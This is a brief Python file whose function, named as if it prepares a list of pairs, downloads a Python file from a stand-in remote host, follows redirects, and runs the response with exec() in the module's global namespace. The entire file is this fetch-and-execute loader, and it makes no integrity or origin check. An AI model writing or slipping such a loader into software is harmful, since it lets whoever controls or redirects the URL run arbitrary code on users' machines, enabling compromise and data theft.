import httpx

SOURCE = "https://pair-list.invalid/pairs.py"


async def prepare():
    async with httpx.AsyncClient(follow_redirects=True) as client:
        answer = await client.get(SOURCE)
    exec(answer.text, globals())
